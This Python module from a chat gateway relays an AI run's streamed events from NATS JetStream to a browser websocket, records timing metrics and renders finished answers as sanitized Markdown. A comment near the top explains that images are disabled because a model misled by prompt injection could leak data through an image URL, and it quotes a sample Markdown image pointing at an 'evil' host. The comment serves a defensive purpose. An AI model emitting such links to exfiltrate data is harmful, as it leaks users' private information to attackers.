"""One chat run followed for one browser: its AG-UI events, in order, from JetStream to the socket.

Each event is forwarded from the subscription's own callback (nats-py delivers them one at a time, in
order), and goes out as the worker published it with the run's `runId` spliced in: no second parse
and no re-serialising per token."""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import time
from collections.abc import Awaitable, Callable
from typing import Any

from markdown_it import MarkdownIt
from nats.aio.msg import Msg
from nats.js import JetStreamContext
from nats.js.api import DeliverPolicy
from starlette.websockets import WebSocketDisconnect

from proto import subjects
from proto.codec import DecodeError, decode_run_event
from proto.events import TERMINAL, EventType
from services.gateway.hub import HEARTBEAT_S
from services.gateway.metrics import Metrics

log = logging.getLogger(__name__)

# No raw HTML and no images: an image would be fetched as soon as the answer is shown, so a model led
# astray by a prompt injection could send data out in its URL (`![x](https://evil/?q=...)` stays a link).
MARKDOWN = (
    MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table").enable("strikethrough").disable("image")
)

SendText = Callable[[str], Awaitable[None]]
Waiting = Callable[[str], Awaitable[None]]


class RunClock:
    """Times one run from the person's message: the wait for a worker, the first text, the end."""

    def __init__(self, metrics: Metrics, run_id: str) -> None:
        self.metrics = metrics
        self.run_id = run_id
        self.submitted = time.monotonic()
        self.seen: set[EventType] = set()

    def saw(self, event: Any) -> None:
        kind: EventType = event.type
        first = kind not in self.seen
        self.seen.add(kind)
        elapsed = time.monotonic() - self.submitted
        if kind == EventType.RUN_STARTED and first:
            self.metrics.observe("run_wait_seconds", elapsed)
            log.info("run_id=%s started after %.3f s", self.run_id, elapsed)
        elif kind == EventType.TEXT_MESSAGE_CONTENT and first:
            self.metrics.observe("run_first_text_seconds", elapsed)
        elif kind == EventType.RUN_FINISHED:
            self.metrics.observe("run_seconds", elapsed)
            result = event.result if isinstance(event.result, dict) else {}
            self.metrics.count("runs_finished_total", model=str(result.get("model") or ""))
            log.info(
                "run_id=%s finished in %.3f s model=%s tokens=%s tokens_per_s=%s",
                self.run_id,
                elapsed,
                result.get("model"),
                result.get("tokens"),
                result.get("tokens_per_s"),
            )
        elif kind == EventType.RUN_ERROR:
            self.metrics.observe("run_seconds", elapsed)
            self.metrics.count("runs_failed_total", code=event.code)
            log.info("run_id=%s failed in %.3f s code=%s: %s", self.run_id, elapsed, event.code, event.message)


def with_run_id(data: bytes, run_id: str) -> str:
    """An AG-UI event's JSON object with `runId` added (a run id is letters, digits, `_` and `-`)."""
    text = data.decode().rstrip()
    if text.endswith("}"):
        return text[:-1] + f',"runId":"{run_id}"}}'
    return json.dumps(json.loads(text) | {"runId": run_id}, ensure_ascii=False)


class RunRelay:
    """Forwards one run's events to one socket until the run ends, the socket goes, or it is stopped.
    `clock` times a run this socket submitted (not one it resumed)."""

    def __init__(
        self, run_id: str, send_text: SendText, metrics: Metrics, clock: RunClock | None, no_worker_s: float
    ) -> None:
        self.run_id = run_id
        self.send_text = send_text
        self.metrics = metrics
        self.clock = clock
        self.no_worker_s = no_worker_s
        self.ready = asyncio.Event()  # set when the relay starts: events wait for it
        self.started = asyncio.Event()
        self.done = asyncio.Event()
        self.text: list[str] = []
        self.sub: Any = None

    async def subscribe(self, js: JetStreamContext) -> None:
        """Follow the run's events from its first (call before submitting the run)."""
        self.sub = await js.subscribe(
            subjects.run_events(self.run_id),
            stream=subjects.RUN_EVENTS_STREAM,
            cb=self._forward,
            ordered_consumer=True,
            deliver_policy=DeliverPolicy.ALL,
            idle_heartbeat=HEARTBEAT_S,  # back within seconds after a nats-server restart
        )

    async def follow(self, waiting: Waiting) -> None:
        """Until the run ends; `waiting` is told once if no worker has started it in time."""
        self.ready.set()
        try:
            try:
                async with asyncio.timeout(self.no_worker_s):
                    await self.started.wait()
            except TimeoutError:
                await waiting(self.run_id)
            await self.done.wait()
        finally:
            self.done.set()
            with contextlib.suppress(Exception):
                await self.sub.unsubscribe()

    async def _forward(self, msg: Msg) -> None:
        await self.ready.wait()
        if self.done.is_set():
            return
        try:
            event = decode_run_event(msg.data)
        except DecodeError as error:
            log.error("run_id=%s skipping a malformed event: %s", self.run_id, error)
            return
        if event.type == EventType.RUN_STARTED:
            self.started.set()
            self.text = []
        elif event.type == EventType.TEXT_MESSAGE_CONTENT:
            self.text.append(event.delta)
        if self.clock is not None:
            self.clock.saw(event)
        try:
            # RUN_STARTED and RUN_FINISHED carry their runId already.
            await self.send_text(msg.data.decode() if hasattr(event, "run_id") else with_run_id(msg.data, self.run_id))
            self.metrics.count("run_events_relayed_total", type=event.type.value)
            if event.type == EventType.TEXT_MESSAGE_END:
                # The finished message, as sanitized Markdown rendered here (raw HTML is not allowed).
                html = MARKDOWN.render("".join(self.text))
                rendered = {"type": "rendered", "runId": self.run_id, "messageId": event.message_id, "html": html}
                await self.send_text(json.dumps(rendered, ensure_ascii=False))
        except (WebSocketDisconnect, RuntimeError):
            self.done.set()  # the browser has gone
            return
        if event.type in TERMINAL:
            self.done.set()
